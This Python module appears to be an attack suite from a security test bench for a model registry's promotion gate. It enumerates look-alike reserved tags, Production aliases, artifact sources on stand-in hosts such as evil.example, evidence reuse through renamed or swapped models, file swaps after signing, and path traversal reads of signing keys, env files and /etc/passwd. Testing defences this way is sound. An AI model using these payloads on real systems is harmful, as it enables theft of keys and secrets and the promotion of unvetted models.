"""Ways through what the registry holds: tags, aliases, copies, sources, names that change hands."""

from collections.abc import Callable, Iterator
from typing import Any

from bench.attack import honest
from bench.attack.target import LOCAL, LOGINS, NOBODY, OPERATOR, SCIENTIST, Answer, Target
from bench.attack.ways import Attempt, Kind, Way, http
from registry.client.registry import Registry, Version
from registry.names import ACTION_HEADER, EVIDENCE, GATE, OVERRIDE, REASON_HEADER, REPORT, Stage

API = "/api/2.0/mlflow"
RESERVED = (EVIDENCE, OVERRIDE, GATE)


def _look_alikes(key: str) -> dict[str, str]:
    """Return writings of a reserved name that a person, a database or a library may take for it."""
    wide = "".join(chr(ord(c) + 0xFEE0) if "a" <= c <= "z" else c for c in key)
    return {
        "as it is": key,
        "upper case": key.upper(),
        "title": key.title(),
        "wide letters": wide,
        "mathematical letters": "".join(
            chr(ord(c) - ord("a") + 0x1D41A) if "a" <= c <= "z" else c for c in key
        ),
        "long s": key.replace("s", "ſ") if "s" in key else key.replace("r", "ʳ"),
        "one dot leader": key.replace(".", "\u2024"),
        "space before": f" {key}",
        "space after": f"{key} ",
        "line feed after": f"{key}\n",
        "no-break space": f"{key}\u00a0",
        "ideographic space": f"\u3000{key}",
        "zero-width space": key.replace(".", ".\u200b"),
        "zero-width joiner": f"{key}\u200d",
        "soft hyphen": key.replace("green", "green\u00ad"),
        "right to left": f"\u202e{key}",
        "byte order mark": f"\ufeff{key}",
        "variation selector": f"{key}\ufe0f",
        "Cyrillic letters": key.replace("e", "е").replace("o", "о"),
        "combining mark": key.replace("e", "e\u0301", 1),
        "NUL": f"{key}\0",
        "slash": key.replace(".", "/"),
        "percent": key.replace(".", "%2E"),
    }


# Other letters: another name, which nobody reads for it. They may be there.
_OTHER = {"Cyrillic letters", "combining mark", "slash", "percent", "one dot leader", "long s"}


def _tag_ways() -> Iterator[Way]:
    for key in RESERVED:
        for spelling in _look_alikes(key):
            other = spelling in _OTHER
            for place, act in _tagging(key, spelling).items():
                yield Way(
                    "tags", LOCAL, f"{key} {place}, {spelling}", act, harmless=other or place == "off a model"
                )
    for account in LOGINS:
        for key in RESERVED:
            for place, act in _tagging(key, "as it is", account).items():
                harmless = place == "off a model" and account in (SCIENTIST, OPERATOR)
                yield Way("tags", account, f"{key} {place}", act, harmless=harmless)
    for value in (
        "passed",
        "",
        "{}",
        "[]",
        '{"payload": ""}',
        "null",
        "x" * 4000,
        '{"payload":"e30=","payloadType":"x","signatures":[]}',
    ):
        for key in (EVIDENCE, OVERRIDE):
            body = _named(version="3", key=key, value=value)
            yield Way(
                "tags",
                LOCAL,
                f"{key} holds {value[:30]!r}",
                http(LOCAL, "POST", f"{API}/model-versions/set-tag", body),
            )
    for number in ("1", "2", "3"):
        body = _named(version=number, key=REPORT, value="bytes")
        yield Way(
            "tags",
            LOCAL,
            f"false report about version {number}",
            http(LOCAL, "POST", f"{API}/model-versions/set-tag", body),
        )


def _named(**more: Any) -> Callable[[Target], dict[str, Any]]:
    return lambda target: {
        "name": target.model,
        **{k: v(target) if callable(v) else v for k, v in more.items()},
    }


def _tagging(key: str, spelling: str, account: str = LOCAL) -> dict[str, Callable[[Target], Answer]]:
    name = _look_alikes(key)[spelling]
    tag = [{"key": name, "value": "passed"}]
    logged = {"source": lambda t: t.places["source3"], "model_id": lambda t: t.places["model3"]}
    return {
        "on a version": http(
            account, "POST", f"{API}/model-versions/set-tag", _named(version="3", key=name, value="passed")
        ),
        "off a version": http(
            account, "DELETE", f"{API}/model-versions/delete-tag", _named(version="1", key=name)
        ),
        "on a model": http(
            account, "POST", f"{API}/registered-models/set-tag", _named(key=name, value="passed")
        ),
        "off a model": http(account, "DELETE", f"{API}/registered-models/delete-tag", _named(key=name)),
        "with a new version": http(
            account, "POST", f"{API}/model-versions/create", _named(tags=tag, **logged)
        ),
        "with a new model": http(
            account,
            "POST",
            f"{API}/registered-models/create",
            lambda t: {"name": f"{t.model}-t", "tags": tag},
        ),
    }


ALIASES = (
    "champion",
    "Champion",
    "CHAMPION",
    "production",
    "Production",
    "prod",
    "PROD",
    "live",
    "Live",
    "ｃｈａｍｐｉｏｎ",
    "ｐｒｏｄ",
    "𝐥𝐢𝐯𝐞",
    "ﬁchampion",
    "champion ",
    " champion",
    "champion\n",
    "cham\u00adpion",
    "cham\u200bpion",
    "prod\u2060",
    "ｌive",
    "ⓛⓘⓥⓔ",
    "ᶜʰᵃᵐᵖⁱᵒⁿ",
)


def _alias_ways() -> Iterator[Way]:
    for alias in ALIASES:
        harmless = alias.startswith("ﬁ")
        for prefix in ("api", "ajax-api"):
            path = f"/{prefix}/2.0/mlflow/registered-models/alias"
            yield Way(
                "aliases",
                LOCAL,
                f"{alias!r} set, {prefix}",
                http(LOCAL, "POST", path, _named(alias=alias, version="3")),
                harmless=harmless,
            )
    for alias in ("champion", "Champion", "ｃｈａｍｐｉｏｎ"):
        away = http(LOCAL, "DELETE", f"{API}/registered-models/alias", _named(alias=alias))
        yield Way("aliases", LOCAL, f"{alias!r} away", away, harmless=alias != "champion")
        for account in LOGINS:
            act = http(account, "POST", f"{API}/registered-models/alias", _named(alias=alias, version="3"))
            yield Way("aliases", account, f"{alias!r} set", act)
    for alias in (
        "greenroom-history-0",
        "greenroom-chain-0",
        "greenroom-report-1",
        "Greenroom-history-9",
        "v1",
        "latest",
    ):
        body = _named(alias=alias, version="3")
        yield Way(
            "aliases",
            LOCAL,
            f"reserved {alias!r}",
            http(LOCAL, "POST", f"{API}/registered-models/alias", body),
        )
    for alias in (
        "greenroom-history-x",
        "greenroom-chain--1",
        "greenroom-x-0",
        "greenroom-history-0;DROP",
        "greenroom-report-x",
    ):
        path = f"{API}/registered-models/alias?alias={alias}&name="
        yield Way("aliases", LOCAL, f"page {alias!r}", _page(LOCAL, path))
    for account in (NOBODY,):
        for kind in ("history", "chain"):
            path = f"{API}/registered-models/alias?alias=greenroom-{kind}-0&name="
            yield Way("aliases", account, f"page of the {kind}", _page(account, path))


def _page(account: str, path: str) -> Callable[[Target], Answer]:
    return lambda target: target.mlflow(account, "GET", path + target.model)


# Sources of a version: where the server, the gate and consumers would read its files.
SOURCES = {
    "a folder of the machine": lambda t: f"file://{t.home}/keys",
    "a path of the machine": lambda t: f"{t.home}/keys",
    "a path with dots": lambda t: f"mlflow-artifacts:/1/../../../..{t.home}/keys",
    "encoded dots": lambda _: "mlflow-artifacts:/%2e%2e/%2e%2e/keys",
    "doubly encoded dots": lambda _: "mlflow-artifacts:/%252e%252e/keys",
    "a file on a host": lambda t: f"file://localhost{t.home}/keys",
    "a run's folder and dots": lambda t: f"runs:/{t.places['run3']}/../../x",
    "another store": lambda _: "s3://elsewhere/model",
    "the store itself": lambda _: "s3://greenroom/mlflow/1",
    "a web page": lambda _: "http://127.0.0.1:1/model",
    "a web page with a fragment": lambda _: "https://evil.example/model#/mlflow-artifacts:/1",
    "another server's artifacts": lambda t: t.places["files3"].replace(":/", "://evil.example:80/", 1),
    "another server's artifacts, https": lambda t: t.places["files3"].replace(":/", "://evil.example/", 1),
    "HDFS": lambda _: "hdfs://evil.example/model",
    "FTP": lambda _: "ftp://evil.example/model",
    "SFTP": lambda _: "sftp://evil.example/model",
    "Azure": lambda _: "wasbs://x@evil.example/model",
    "Google": lambda _: "gs://evil/model",
    "DBFS": lambda _: "dbfs:/x",
    "Unity Catalog": lambda _: "uc://x",
    "Hugging Face": lambda _: "huggingface://x/y",
    "a model with a query": lambda t: f"models:/{t.model}/1?x=1",
    "the version in Production by stage": lambda t: f"models:/{t.model}/Production",
    "an alias": lambda t: f"models:/{t.model}@champion",
    "nothing": lambda _: "",
    "a letter": lambda _: "x",
}


def _source_ways() -> Iterator[Way]:
    for name, source in SOURCES.items():
        for reading in ("read", "to Staging", "to Production"):
            act = _from_source(source, reading)
            yield Way("sources", LOCAL, f"{name}, {reading}", act, harmless=reading == "read")
        for account in LOGINS:
            act = http(account, "POST", f"{API}/model-versions/create", _named(source=source))
            yield Way("sources", account, name, act, harmless=account in (SCIENTIST, OPERATOR))
    for name in ("another server's artifacts", "the store itself", "a folder of the machine"):
        yield Way("sources", LOCAL, f"{name}, by an experiment, signed, to Staging", _from_experiment(name))


def _from_source(source: Callable[[Target], str], reading: str) -> Callable[[Target], Attempt | Answer]:
    """Register a version from somewhere; read it through the server, or move it up with the word of nobody."""

    def act(target: Target) -> Attempt | Answer:
        made = target.mlflow(
            LOCAL, "POST", f"{API}/model-versions/create", {"name": target.model, "source": source(target)}
        )
        if made.status != 200:
            return made
        number = made.text.partition('"version": "')[2].partition('"')[0]
        if reading != "read":
            stage = reading.removeprefix("to ")
            return target.mlflow(
                LOCAL,
                "POST",
                f"{API}/model-versions/transition-stage",
                {"name": target.model, "version": number, "stage": stage},
            )
        where = f"name={target.model}&version={number}"
        return Attempt(
            tuple(
                target.mlflow(LOCAL, "GET", f"/model-versions/get-artifact?{where}&path={path}")
                for path in ("gate.pem", "../stack.env", "model.onnx")
            )
        )

    return act


def _from_experiment(name: str) -> Callable[[Target], Attempt | Answer]:
    """Log a model in an experiment whose artifacts are elsewhere, and let the gate's key sign it there."""

    def act(target: Target) -> Attempt | Answer:
        place = SOURCES[name](target)
        made = target.mlflow(
            LOCAL,
            "POST",
            f"{API}/experiments/create",
            {"name": f"prey-{name}-{id(target)}", "artifact_location": place},
        )
        if made.status != 200:
            return made
        experiment = made.text.partition('"experiment_id": "')[2].partition('"')[0]
        model = honest.prey(target, attested=False).model
        try:
            version = honest.register(target, model, experiment)
            honest.attest(target, version)
        except Exception as error:  # noqa: BLE001 - whoever refuses, and how
            return Attempt((Answer(403, str(error)),), model)
        body = {"name": model, "version": str(version.number), "stage": "Staging"}
        return target.mlflow(LOCAL, "POST", f"{API}/model-versions/transition-stage", body)

    return act


def _move(
    target: Target, model: str, number: int, stage: str, headers: dict[str, str] | None = None
) -> Answer:
    body = {"name": model, "version": str(number), "stage": stage}
    return target.mlflow(LOCAL, "POST", f"{API}/model-versions/transition-stage", body, headers)


def _again(target: Target, version: Version, name: str) -> int:
    """Register the files of a version once more."""
    about = {"source": version.source, "model_id": version.source.removeprefix("models:/")}
    answer = target.client.post("model-versions/create", {"name": name, **about})
    return int(answer["model_version"]["version"])


def _rename(target: Target, name: str, new_name: str) -> None:
    target.client.post("registered-models/rename", {"name": name, "new_name": new_name})


def _evidence(target: Target, version: Version) -> str:
    return Registry(target.client).version(version.model, version.number).tags[EVIDENCE]


_BACK = {ACTION_HEADER: "rollback", REASON_HEADER: "x"}
Story = Callable[[Target], Answer]


def _copy_promoted(stage: str) -> Story:
    def story(target: Target) -> Answer:
        version = honest.prey(target)
        name = f"{version.model}-copy"
        target.client.post("registered-models/create", {"name": name})
        tags = [{"key": k, "value": v} for k, v in version.tags.items()]
        body = {"name": name, "source": f"models:/{version.model}/1", "run_id": version.run_id, "tags": tags}
        target.client.post("model-versions/create", body)
        return _move(target, name, 1, stage)

    return story


def _copy_with_evidence(target: Target) -> Answer:
    version = honest.prey(target)
    target.client.post("registered-models/create", {"name": f"{version.model}-copy"})
    number = _again(target, version, f"{version.model}-copy")
    body = {
        "name": f"{version.model}-copy",
        "version": str(number),
        "key": EVIDENCE,
        "value": _evidence(target, version),
    }
    return target.mlflow(LOCAL, "POST", f"{API}/model-versions/set-tag", body)


def _renamed(stage: str) -> Story:
    def story(target: Target) -> Answer:
        version = honest.prey(target, None)
        _rename(target, version.model, f"{version.model}-new")
        return _move(target, f"{version.model}-new", 1, stage)

    return story


def _swapped(stage: str) -> Story:
    """Give a model the name of another, which has evidence."""

    def story(target: Target) -> Answer:
        good, bad = honest.prey(target, None), honest.prey(target, None, attested=False)
        envelope = _evidence(target, good)
        _rename(target, good.model, f"{good.model}-away")
        _rename(target, bad.model, good.model)
        body = {"name": good.model, "version": "1", "key": EVIDENCE, "value": envelope}
        tagged = target.mlflow(LOCAL, "POST", f"{API}/model-versions/set-tag", body)
        return tagged if tagged.refused else _move(target, good.model, 1, stage)

    return story


def _made_anew(target: Target) -> Answer:
    """Roll back to a version that was made anew under an old number."""
    version = honest.prey(target)
    envelope = _evidence(target, version)
    _move(target, version.model, 1, "Archived")
    _rename(target, version.model, f"{version.model}-away")
    target.client.post("registered-models/create", {"name": version.model})
    _again(target, version, version.model)
    body = {"name": version.model, "version": "1", "key": EVIDENCE, "value": envelope}
    target.mlflow(LOCAL, "POST", f"{API}/model-versions/set-tag", body)
    return _move(target, version.model, 1, "Production", _BACK)


def _twice(target: Target) -> Answer:
    """Use evidence again after the version left Production."""
    version = honest.prey(target)
    _move(target, version.model, 1, "Archived")
    _move(target, version.model, 1, "Staging")
    return _move(target, version.model, 1, "Production")


def _deleted_ground(what: str) -> Story:
    """Move a version up whose run or logged model was deleted."""

    def story(target: Target) -> Answer:
        version = honest.prey(target, None)
        if what == "run":
            target.mlflow(LOCAL, "POST", f"{API}/runs/delete", {"run_id": version.run_id})
        else:
            logged = version.source.removeprefix("models:/")
            target.mlflow(LOCAL, "DELETE", f"{API}/logged-models/{logged}")
        return _move(target, version.model, 1, "Staging")

    return story


def _kept(stage: Stage, method: str, path: str, body: Callable[[Version], dict[str, Any]]) -> Story:
    """Delete what a version in a stage stands on."""

    def story(target: Target) -> Answer:
        version = honest.prey(target, stage)
        return target.mlflow(
            LOCAL,
            method,
            f"{API}/{path.format(model_id=version.source.removeprefix('models:/'))}",
            body(version),
        )

    return story


def _gone(target: Target) -> Answer:
    version = honest.prey(target, Stage.STAGING)
    target.mlflow(LOCAL, "DELETE", f"{API}/model-versions/delete", {"name": version.model, "version": "1"})
    return _move(target, version.model, 1, "Production")


def _older(target: Target) -> Answer:
    """Put yesterday's pass over today's refusal."""
    version = honest.prey(target, None)
    passed = _evidence(target, version)
    honest.attest(target, version, status="failed")
    body = {"name": version.model, "version": "1", "key": EVIDENCE, "value": passed}
    return target.mlflow(LOCAL, "POST", f"{API}/model-versions/set-tag", body)


def _other_bytes(target: Target) -> Answer:
    """Exchange the file after it was signed, before it moves."""
    version = honest.prey(target, None)
    target.client.put_artifact(honest.location(target, version), "model.onnx", b"other bytes")
    return _move(target, version.model, 1, "Staging")


def _more_files(path: str) -> Story:
    def story(target: Target) -> Answer:
        version = honest.prey(target, None, attested=False)
        target.client.put_artifact(honest.location(target, version), path, b"import os")
        honest.attest(target, version)
        return _move(target, version.model, 1, "Staging")

    return story


_STORIES: dict[str, Story] = {
    "a copy with all tags to Staging": _copy_promoted("Staging"),
    "a copy with all tags to Production": _copy_promoted("Production"),
    "a copy and the evidence of the other": _copy_with_evidence,
    "a renamed model to Staging": _renamed("Staging"),
    "a renamed model to Production": _renamed("Production"),
    "a model under another's name to Staging": _swapped("Staging"),
    "a model under another's name to Production": _swapped("Production"),
    "an old number made anew, rolled back to": _made_anew,
    "evidence used twice": _twice,
    "moved up after its run was deleted": _deleted_ground("run"),
    "moved up after its logged model was deleted": _deleted_ground("logged model"),
    "moved up after it was deleted": _gone,
    "older evidence over newer": _older,
    "the file exchanged after it was signed": _other_bytes,
    **{
        f"signed with {path}": _more_files(path)
        for path in (
            "code/evil.py",
            "loader.py",
            "model.onnx.data",
            "MLmodel.bak",
            "python_model.pkl",
            "extra/model.onnx",
        )
    },
    **{
        f"the run of a version in {stage} deleted": _kept(
            stage, "POST", "runs/delete", lambda v: {"run_id": v.run_id}
        )
        for stage in (Stage.STAGING, Stage.PRODUCTION)
    },
    **{
        f"the logged model of a version in {stage} deleted": _kept(
            stage, "DELETE", "logged-models/{model_id}", lambda _: {}
        )
        for stage in (Stage.STAGING, Stage.PRODUCTION)
    },
}


def _story_ways() -> Iterator[Way]:
    for name, story in _STORIES.items():
        yield Way("copies, names, deletions", LOCAL, name, story)


def _reading(account: str, path: str) -> Callable[[Target], Answer]:
    def act(target: Target) -> Answer:
        return target.mlflow(
            account, "GET", path.format(run=target.places["run1"], model=target.model, home=target.home)
        )

    return act


READS = (
    *(
        f"/get-artifact?run_uuid={{run}}&path={p}"
        for p in (
            "../../../keys/gate.pem",
            "/{home}/keys/gate.pem",
            "..%2f..%2fkeys%2fgate.pem",
            "%252e%252e/keys/gate.pem",
            "file:///{home}/stack.env",
            "gate/../../../stack.env",
            "..%5c..%5cstack.env",
        )
    ),
    *(
        f"/model-versions/get-artifact?name={{model}}&version=1&path={p}"
        for p in ("../../../keys/gate.pem", "/{home}/keys/gate.pem", "%252e%252e/stack.env")
    ),
    *(
        f"/api/2.0/mlflow-artifacts/artifacts/{p}"
        for p in (
            "../../keys/gate.pem",
            "%2e%2e/%2e%2e/keys/gate.pem",
            "..%2f..%2fkeys%2fgate.pem",
            "%252e%252e%252fkeys",
            "file:///{home}/keys/gate.pem",
            "/{home}/keys/gate.pem",
        )
    ),
    *(
        f"/api/2.0/mlflow-artifacts/artifacts?path={p}"
        for p in ("../..", "%2e%2e/%2e%2e", "/{home}/keys", "file:///{home}/keys", "..%2f..")
    ),
    *(
        f"/api/2.0/mlflow-artifacts/presigned/{p}"
        for p in ("../../datasets/x", "..%2f..%2fdatasets", "%252e%252e/datasets")
    ),
    *(
        f"/api/2.0/mlflow/artifacts/list?run_id={{run}}&path={p}"
        for p in ("../..", "%2e%2e", "/{home}/keys", "file:///{home}")
    ),
    *(f"/ajax-api/2.0/mlflow/get-trace-artifact?request_id={p}" for p in ("../../x", "tr-1", "{home}/keys")),
    *(
        f"/static-files/{p}"
        for p in (
            "../../../../../../..{home}/stack.env",
            "..%2f..%2f..%2fetc/passwd",
            "%2e%2e/%2e%2e/etc/passwd",
            "/{home}/stack.env",
        )
    ),
)


def _read_ways() -> Iterator[Way]:
    for path in READS:
        for account in (LOCAL, SCIENTIST, NOBODY):
            yield Way("reading", account, path, _reading(account, path), harmless=account != NOBODY)


KINDS = (
    Kind("tags", "reserved tags in 23 writings, on and off versions and models, with new ones", _tag_ways),
    Kind("aliases", "aliases that mean Production, and those that the audit answers under", _alias_ways),
    Kind("sources", "versions whose files are somewhere else", _source_ways),
    Kind(
        "copies, names, deletions",
        "copies, renamed and deleted models, used evidence, files exchanged",
        _story_ways,
    ),
    Kind("reading", "paths to keys and settings through every route that reads files", _read_ways),
)
